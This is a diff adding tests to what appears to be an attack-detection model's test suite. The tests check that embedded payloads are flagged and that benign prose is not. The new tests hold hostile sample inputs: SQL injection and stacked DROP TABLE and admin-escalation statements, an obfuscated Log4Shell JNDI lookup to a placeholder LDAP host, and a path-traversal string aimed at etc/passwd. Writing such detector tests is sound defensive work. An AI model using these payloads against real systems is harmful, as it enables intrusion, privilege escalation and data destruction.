@@ -1,3 +1,4 @@
+import { createHash } from 'node:crypto'
 import fc from 'fast-check'
 import { ATTACK_KINDS, AttackModel, featurise, loadAttackModel } from '../src/index.js'
 
@@ -122,6 +123,58 @@ test('prose before and behind does not hide an attack, and is none', () => {
   }
   expect(model.score(prose.repeat(9)).score).toBeLessThan(0.01)
   expect(model.score(`${prose}She said "it's fine"; we don't agree -- sorry. ${prose}`).score).toBeLessThan(permille1)
+})
+
+test('a statement diluted in prose is found, whatever marks of prose stand before it', () => {
+  const marks = `She said "it's fine"; we don't agree = not at all | "so" be it; <b>bold</b> claims, {{name}}, 'quoted' words: `
+  const prose = 'We ordered the blue lamp last week and it arrived with a scratch, please tell us how to return it. '
+  for (const payload of [
+    "x' UNION SELECT NULL,login,secret FROM staff-- -",
+    "x' or 'a'='a' -- ",
+    '${${lower:j}ndi:${::-l}dap://x.test/a}',
+    '..%f8%80%80%80%afetc..%c0%qf..%c0%qfetc/passwd',
+  ])
+    for (const value of [
+      marks.repeat(3) + payload,
+      `${marks.repeat(9)}${payload} ${prose}`,
+      payload + prose.repeat(6),
+      prose.repeat(4) + payload + prose.repeat(4),
+    ])
+      expect([payload, value.indexOf(payload), model.score(value).score >= permille1]).toEqual([
+        payload,
+        value.indexOf(payload),
+        true,
+      ])
+  expect(model.score(marks.repeat(9)).score).toBeLessThan(permille1)
+  expect(
+    model.score(`Drop table tennis, select a plan; update the order from the union or delete it. ${prose}`).score,
+  ).toBeLessThan(permille1)
+})
+
+test('a statement stacked behind a number is found as one behind a string is', () => {
+  for (const value of [
+    '1; DROP TABLE staff; -- ',
+    '1;drop table users',
+    '5;update users set admin=1',
+    '7; select pg_sleep(5)',
+    '1;shutdown--',
+    '1`;drop table x',
+  ])
+    expect([value, model.score(value).score >= permille1]).toEqual([value, true])
+  for (const value of ['1; drop me a line', '2; select the one you like', '3; update the form and order by phone'])
+    expect([value, model.score(value).score < permille1]).toEqual([value, true])
+})
+
+test('bytes that are no text are no attack', () => {
+  let flagged = 0
+  for (let i = 0; i < 400; i++) {
+    const bytes = Buffer.concat(
+      Array.from({ length: 1 + (i % 30) }, (_, k) => createHash('sha256').update(`${i} ${k}`).digest()),
+    )
+    for (const value of [bytes.toString('latin1'), bytes.toString('utf8')])
+      if (model.score(value).score >= permille1) flagged++
+  }
+  expect(flagged).toBeLessThanOrEqual(4)
 })
 
 test('scores are the same for the same value, in any order', () => {
